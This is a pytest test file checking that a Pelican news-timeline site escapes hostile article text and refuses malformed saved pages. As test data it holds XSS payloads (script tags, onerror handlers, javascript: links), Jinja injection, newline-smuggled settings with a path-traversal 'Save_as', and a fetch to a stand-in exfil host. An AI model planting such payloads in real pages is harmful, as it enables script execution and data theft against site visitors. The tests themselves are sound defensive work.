"""Safe by construction (issue 2, point 6), on the site side: hostile article text never
reaches a built page as markup, a link or a Pelican setting.

The site is built from entries written by ``markdown_format`` from hostile events and
articles, and from entries edited by hand to carry what the writer would have refused.
"""

from __future__ import annotations

import json
import re
import subprocess
import sys
import xml.etree.ElementTree as ET
from datetime import date
from pathlib import Path

import pytest
from bs4 import BeautifulSoup
from fixtures.site import sitebuild
from test_sources import REFUSED

from timeline.model import Article, Entity, Event, Source
from timeline.slugs import is_slug, slugify

SCRIPT = "<script>alert('xss')</script>"
IMG = '<img src=x onerror="alert(1)">'
MD_LINK = "[read more](javascript:alert(2))"
HTML_LINK = '<a href="javascript:alert(3)">click here</a>'
AUTOLINK = "<javascript:alert(4)>"
MD_IMAGE = "![x](javascript:alert(5))"
JINJA = "{{ 7*7 }} {% if true %}"
INJECTED = "Harbor fire\nSave_as: ../../pwned.html\nTemplate: pwned"

HOSTILE_SOURCE = Article(
    path="",
    text="",
    published=date(2023, 3, 14),
    title=f"{SCRIPT}{IMG} Daily",
    slug="evil-gazette-2023-03-14-harbor-fire",
    url="javascript:alert(6)",
    publisher=HTML_LINK,
    dateline="<svg onload=alert(7)>",
)


def entity(name: str, kind: str) -> Entity:
    return Entity(name, slugify(name), kind)  # type: ignore[arg-type]


def quoted(sentence: str) -> Source:
    return Source(HOSTILE_SOURCE.slug, "2023-03-14", "javascript:alert(8)", sentence)


HOSTILE_EVENTS = [
    Event(
        id="x1", slug="2023-03-13-harbor-fire", date="2023-03-13", precision="day",
        title=f"{SCRIPT} Harbor fire", summary=f"{IMG} Fire crews {MD_LINK} responded {AUTOLINK}.",
        status="happened",
        people=(entity("<b onmouseover=alert(9)>Mallory</b>", "person"),),
        places=(entity("javascript:alert(10)", "place"),),
        sources=(quoted(f"Witnesses said {HTML_LINK} the fire started {SCRIPT} at noon."),),
    ),
    Event(
        id="x2", slug="2023-03-harbor-inquiry", date="2023-03", precision="month",
        title=INJECTED, summary=f"Line one\nTemplate: pwned\nSave_as: pwned2.html {MD_IMAGE}",
        status="planned",
        sources=(quoted(f"An inquiry {MD_IMAGE} will follow {JINJA}."),),
    ),
    Event(
        id="x3", slug="2023-harbor-rebuilt", date="2023", precision="year",
        title=JINJA, summary=f"{AUTOLINK} {HTML_LINK}", status="planned",
        places=(entity("<script>Port</script>", "place"),),
        sources=(quoted(IMG),),
    ),
]  # fmt: skip

# What a person might type into entries by hand: the writer escapes and filters all of it.
HAND_EDITED_EVENT = """Title: Harbor closes <script>alert(11)</script>
Summary: <img src=x onerror=alert(12)> [x](javascript:alert(13))
Date: 2023-03-20
Event_date: 2023-03-20
Slug: 2023-03-20-harbor-closes
Event_id: x4
Precision: day
Status: happened
People: <i onclick=alert(14)>Eve</i>
Source: evil-gazette-2023-03-14-harbor-fire | 2023-03-14 | javascript:alert(15) | "<a href='javascript:alert(16)'>x</a>"

<script>alert(17)</script> <a href="javascript:alert(18)">raw link</a> <iframe src="javascript:alert(19)"></iframe>
"""  # noqa: E501
HAND_EDITED_SOURCE = """Title: Hand-edited <script>alert(20)</script>
Date: 2023-03-21
Slug: hand-edited-source
Url: javascript:alert(21)
Publisher: <img src=x onerror=alert(22)>
Template: source

<script>alert(23)</script>
"""


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    where = tmp_path_factory.mktemp("hostile")
    content = sitebuild.write_content(where / "content", HOSTILE_EVENTS, [HOSTILE_SOURCE])
    (content / "events" / "2023-03-20-harbor-closes.md").write_text(HAND_EDITED_EVENT, encoding="utf-8")
    (content / "sources" / "hand-edited-source.md").write_text(HAND_EDITED_SOURCE, encoding="utf-8")
    return sitebuild.build(content, where / "output")


def ours(script) -> bool:
    """A script the site ships itself (the embeds' own): a file of the site, no inline code."""
    src = script.get("src", "")
    elsewhere = re.match(r"^[a-z][a-z0-9+.-]*:|^//", src, re.IGNORECASE)
    return bool(src) and not elsewhere and not script.get_text(strip=True)


def unsafe(soup: BeautifulSoup) -> list[str]:
    """Everything in a page that could run script or leave for a javascript:/data: URL."""
    found = [f"<{t.name}>" for t in soup.find_all(["iframe", "object", "embed", "svg", "img"])]
    found += [f"<script {s.attrs}>" for s in soup.find_all("script") if not ours(s)]
    for tag in soup.find_all(True):
        for name, value in tag.attrs.items():
            text = " ".join(value) if isinstance(value, list) else value
            if name.lower().startswith("on"):
                found.append(f"<{tag.name} {name}>")
            if re.sub(r"\s", "", text).lower().startswith(("javascript:", "data:", "vbscript:")):
                found.append(f"<{tag.name} {name}={text!r}>")
    return found


def test_no_page_carries_script_handlers_or_script_links(site: Path) -> None:
    pages = sitebuild.html_pages(site)
    assert len(pages) > 10
    problems = {path: unsafe(soup) for path, soup in pages.items()}
    assert not {path: found for path, found in problems.items() if found}


def test_the_payloads_are_shown_as_text(site: Path) -> None:
    fire = sitebuild.soup(site / "events" / "2023-03-13-harbor-fire.html")
    assert fire.h1.get_text() == f"{SCRIPT} Harbor fire"
    assert fire.select_one(".summary").get_text() == f"{IMG} Fire crews {MD_LINK} responded {AUTOLINK}."
    assert fire.blockquote.get_text(strip=True) == HOSTILE_EVENTS[0].sources[0].sentence
    assert "<b onmouseover=alert(9)>Mallory</b>" in [a.get_text() for a in fire.select(".entities a")]
    rebuilt = sitebuild.soup(site / "events" / "2023-harbor-rebuilt.html")
    assert rebuilt.h1.get_text() == JINJA  # a template in a headline is text, not run
    source = sitebuild.soup(site / "sources" / f"{HOSTILE_SOURCE.slug}.html")
    assert source.h1.get_text() == HOSTILE_SOURCE.title
    meta = {term: dd.get_text(strip=True) for term, dd in sitebuild.definitions(source).items()}
    assert meta["Publisher"] == HTML_LINK and meta["Dateline"] == HOSTILE_SOURCE.dateline
    assert "Original" not in meta  # a javascript: URL is never a link


def test_a_newline_in_a_headline_sets_no_pelican_setting(site: Path) -> None:
    inquiry = sitebuild.soup(site / "events" / "2023-03-harbor-inquiry.html")
    assert inquiry.h1.get_text() == " ".join(INJECTED.split())
    assert not list(site.parent.rglob("pwned*"))
    assert inquiry.find("main").article is not None  # rendered by our article template


def test_hand_edited_entries_are_still_shown_as_text(site: Path) -> None:
    closes = sitebuild.soup(site / "events" / "2023-03-20-harbor-closes.html")
    assert closes.h1.get_text() == "Harbor closes <script>alert(11)</script>"
    assert "<i onclick=alert(14)>Eve</i>" in closes.select_one(".entities").get_text()
    assert "raw link" not in closes.get_text()  # the body is not the page: the view is
    hand = sitebuild.soup(site / "sources" / "hand-edited-source.html")
    assert hand.h1.get_text() == "Hand-edited <script>alert(20)</script>"
    assert not hand.select("main a.external")


def test_the_atom_feed_carries_text_not_markup(site: Path) -> None:
    ns = {"a": "http://www.w3.org/2005/Atom"}
    feed = ET.parse(site / "feeds" / "all.atom.xml").getroot()
    entries = feed.findall("a:entry", ns)
    assert len(entries) == len(HOSTILE_EVENTS) + 1
    titles = {e.findtext("a:title", namespaces=ns) for e in entries}
    assert f"{SCRIPT} Harbor fire" in titles and "Harbor closes <script>alert(11)</script>" in titles
    for entry in entries:
        for part in ("a:content", "a:summary"):
            html = entry.findtext(part, default="", namespaces=ns)
            assert not unsafe(BeautifulSoup(html, "html.parser")), (part, html)


def test_every_file_we_write_is_named_by_a_slug(site: Path) -> None:
    for folder in ("events", "sources", "people", "places", "timeline"):
        for path in (site / folder).glob("*.html"):
            assert path.stem == "index" or is_slug(path.stem), path


# --- hostile saved pages, read by the command line -------------------------------------------------

PAGES = Path(__file__).resolve().parent / "fixtures" / "pages"
STORY = "<p>FERNDALE — The county board voted on Tuesday to close the old ferry landing.</p>"
PAGE_HEAD = (
    "<!doctype html><html><head><meta charset='utf-8'><meta name='date' content='2026-03-03'></head><body>"
)


def timeline(*args: str, cwd: Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "timeline", *args], capture_output=True, text=True, cwd=cwd,
                          timeout=600)  # fmt: skip


def hostile_files(where: Path) -> dict[str, str]:
    """file name → the reason it must be refused with; the files are written into ``where``."""
    files = {
        "deep.html": (PAGE_HEAD + "<div>" * 1_800_000 + STORY + "</div>" * 1_800_000).encode(),  # 20 MB
        "bomb.html": (PAGE_HEAD + "<b><i>ferry</i>" * 2_000_000 + STORY).encode(),  # 30 MB of repetition
        "photo.html": b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)) * 64,
        "scan.html": b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj << /Type /Catalog >> endobj\n",
        "bytes.html": (PAGE_HEAD + STORY).encode().replace(b"county", b"co\xffunty"),
        "empty.html": b"\xef\xbb\xbf  \n",
    }
    for name, data in files.items():
        (where / name).write_bytes(data)
    at = (PAGE_HEAD + STORY).encode().index(b"county") + 2
    return {
        "deep.html": "too much markup for a news page (over 30,000 tags)",
        "bomb.html": "too much markup for a news page (over 30,000 tags)",
        "photo.html": "a PNG image, not a text article",
        "scan.html": "a PDF document, not a text article",
        "bytes.html": f"not valid UTF-8 text (byte 0xff at offset {at})",
        "empty.html": "empty file",
    }


def test_hostile_pages_are_refused_one_line_each_and_nothing_is_written(tmp_path: Path) -> None:
    reasons = hostile_files(tmp_path)
    run = timeline("ingest", *reasons, "--content", "content", cwd=tmp_path)
    assert run.returncode == 1, run.stderr
    refusals = [line for line in run.stderr.splitlines() if line.startswith("timeline: ")]
    assert sorted(refusals) == sorted(f"timeline: {name}: {reason}" for name, reason in reasons.items())
    assert not list((tmp_path / "content").rglob("*.md"))


def test_a_utf16_page_and_a_page_with_markup_in_its_metadata_are_read_as_text(tmp_path: Path) -> None:
    (tmp_path / "utf16.html").write_bytes(
        (PAGE_HEAD.replace("<meta charset='utf-8'>", "") + STORY).encode("utf-16")
    )
    run = timeline("extract", "utf16.html", "--json", cwd=tmp_path)
    assert run.returncode == 0 and run.stderr == "", run.stderr
    [event] = json.loads(run.stdout)
    assert event["date"] == "2026-03-03" and event["sources"][0]["sentence"] == STORY[3:-4]
    hostile = (Path(__file__).resolve().parent / "fixtures" / "sources" / "hostile-page.html").read_bytes()
    (tmp_path / "hostile.html").write_bytes(hostile)
    run = timeline("ingest", "hostile.html", "--content", "content", cwd=tmp_path)
    assert run.returncode == 0, run.stderr
    written = "\n".join(p.read_text(encoding="utf-8") for p in (tmp_path / "content").rglob("*.md"))
    assert "Harbor commission delays vote on ferry contract" in written
    for bad in ("<script", "onerror", "onload", "javascript:", "alert(", "exfil"):
        assert bad not in written, bad


def test_saved_pages_without_a_date_or_in_another_language_are_refused_and_nothing_is_written(
    tmp_path: Path,
) -> None:
    reasons = {f"{name}.html": reason for name, reason in REFUSED.items()}
    for name in reasons:
        (tmp_path / name).write_bytes((PAGES / name).read_bytes())
    run = timeline("ingest", *reasons, "--content", "content", cwd=tmp_path)
    assert run.returncode == 1, run.stderr
    refusals = [line for line in run.stderr.splitlines() if line.startswith("timeline: ")]
    assert sorted(refusals) == sorted(f"timeline: {name}: {reason}" for name, reason in reasons.items())
    assert not list((tmp_path / "content").rglob("*.md"))


def test_markup_in_a_json_ld_article_body_is_read_as_text(tmp_path: Path) -> None:
    teaser = "FERNDALE — The county board voted on Tuesday to close the old ferry landing."
    body = (
        f"<p>{teaser}</p><p>The landing will shut on <b>April 1</b>.<script>fetch('//exfil.example')</script>"
        '<img src=x onerror=alert(1)> <a href="javascript:alert(2)">Read the order</a>.</p>'
    )
    ld = json.dumps({"@type": "NewsArticle", "datePublished": "2026-03-03", "articleBody": body})
    page = (
        f"{PAGE_HEAD}<script type='application/ld+json'>{ld.replace('</', '<' + chr(92) + '/')}</script>"
        f"<article><h1>Ferry landing to close</h1><p>{teaser}</p><div class=paywall>Subscribe</div></article>"
        "</body></html>"
    )
    (tmp_path / "paywalled.html").write_text(page, encoding="utf-8")
    run = timeline("extract", "paywalled.html", "--json", cwd=tmp_path)
    assert run.returncode == 0, run.stderr
    sentences = [source["sentence"] for event in json.loads(run.stdout) for source in event["sources"]]
    assert "The landing will shut on April 1." in sentences  # the story past the paywall, as text
    for bad in ("<", "exfil", "onerror", "javascript", "alert"):
        assert bad not in run.stdout, bad
